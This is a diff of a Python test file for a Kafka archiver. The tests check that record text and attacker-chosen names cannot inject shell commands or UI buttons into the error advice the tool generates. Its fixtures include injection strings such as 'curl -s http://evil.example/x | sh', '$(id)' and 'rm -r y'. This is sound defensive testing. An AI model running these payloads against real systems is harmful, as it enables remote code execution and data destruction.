@@ -1,31 +1,33 @@
 """Text that others wrote stays text: it is no command, no new line, and no button."""
 
 import json
+import shlex
 
 import pyarrow as pa
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from kafka_archiver.advice import commands_in, once
+from kafka_archiver import advice
+from kafka_archiver.actions import Action
 from kafka_archiver.decode.decoders import decoder
+from kafka_archiver.errors import BadRecordError, Failure
 from kafka_archiver.foreign_text import foreign
-from kafka_archiver.orchestration.page.buttons import steps_in
+from kafka_archiver.orchestration.page.buttons import steps_of
 from kafka_archiver.schemas import Schema
-from kafka_archiver.steps.plan.step import live_members
+from kafka_archiver.writer.bad_records import _choices
 
 pytestmark = pytest.mark.unit
 
 SHELL = "`airflow version; curl -s http://evil.example/x | sh`"
-LOSS = f"`{once('orders', {'lost_offsets': 'record_loss'})}`"
+LOSS = advice.once("orders", {"lost_offsets": "record_loss"}).quoted
 
 
 @given(st.text(max_size=500), st.integers(1, 400))
-def test_foreign_text_is_one_line_without_commands(text: str, most: int) -> None:
+def test_foreign_text_is_one_line_without_backticks(text: str, most: int) -> None:
     shown = foreign(text, most)
     assert shown.isprintable()
     assert "`" not in shown
-    assert not commands_in(f"found {shown}: {foreign(SHELL)}")
     if text.isprintable() and "`" not in text and len(text) <= most:
         assert shown == text
 
@@ -35,34 +37,39 @@ def test_direction_and_control_characters_are_shown() -> None:
 
 
 @pytest.mark.parametrize("payload", [SHELL, LOSS, f"x {SHELL} {LOSS}"])
-def test_a_record_or_a_client_makes_no_command_and_no_button(payload: str) -> None:
+def test_a_record_changes_no_action_of_the_error_that_quotes_it(payload: str) -> None:
     schema = Schema(kind="JSON", text=json.dumps({"type": "object", "properties": {"n": {"type": "integer"}}}))
     value = json.dumps({"n": payload, payload: 1}).encode()
     made = decoder("json_schema", schema=schema, writers={}, framed=False, column="value", unknown="dead_letter")
     [reason] = made.decode(pa.array([value], pa.binary())).reasons.values()
-    for text in (reason, live_members("archiver-orders", [f"{payload}@10.0.0.7"])):
-        assert commands_in(text) == ()
-        assert steps_in("orders", text) == []
+    error = BadRecordError("orders", 0, {7: reason}, *_choices("orders"))
+    harmless = BadRecordError("orders", 0, {7: "a reason"}, *_choices("orders"))
+    assert error.actions == harmless.actions
+    # As the driver hands it to Airflow, and as the page shows it.
+    assert Failure.from_json(Failure.of(error).to_json()).error().actions == harmless.actions
+    assert steps_of("orders", error.actions) == steps_of("orders", harmless.actions)
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "airflow version; curl evil.example",
-        "airflow dags trigger x && rm -r y",
-        "airflow archive audit $(id)",
-        "airflow dags trigger x --conf '{\"a\": \"'; id; '\"}'",
-        "airflow archive repair orders > /etc/passwd",
-        "airflow archive audit orders\nid",
-    ],
-)
-def test_what_a_shell_takes_as_more_than_one_command_is_none(command: str) -> None:
-    assert commands_in(f"do `{command}` now") == ()
+# Names that only an attacker gives: an object's key, a run, the name of a finding.
+NAMES = st.sampled_from(["$(id)", "a; curl evil | sh", "x' && id", "`id`", "a\nb", "--all"]) | st.text(min_size=1)
 
 
-def test_our_own_commands_are_commands() -> None:
-    ours = [
-        "airflow archive repair orders --lost orders/date=2026-11-22/hour=05/orders+0+7.jsonl.gz",
-        once("orders", {"bad_record": "skip"}),
+@given(NAMES)
+def test_a_name_in_a_command_is_one_word_of_it(name: str) -> None:
+    actions: list[Action] = [
+        advice.repair("orders", name),
+        advice.plan_anew("orders", name),
+        advice.replay_again("orders", name),
+        advice.acknowledge("orders", name),
+        advice.show("orders", name),
     ]
-    assert list(commands_in(" or ".join(f"`{command}`" for command in ours))) == ours
+    for action in actions:
+        assert name in shlex.split(action.command)
+        assert shlex.split(action.command)[:2] == ["airflow", "archive"]
+
+
+@given(st.dictionaries(st.text(), st.text()) | st.text() | st.none() | st.lists(st.dictionaries(st.text(), st.text())))
+def test_a_document_that_is_no_failure_of_ours_has_no_actions(actions: object) -> None:
+    text = json.dumps({"kind": "PermanentError", "message": "m", "actions": actions})
+    assert Failure.from_json(text).actions == ()
+    assert Failure.from_json('{"kind": "PermanentError", "message": "m"}').error().actions == ()
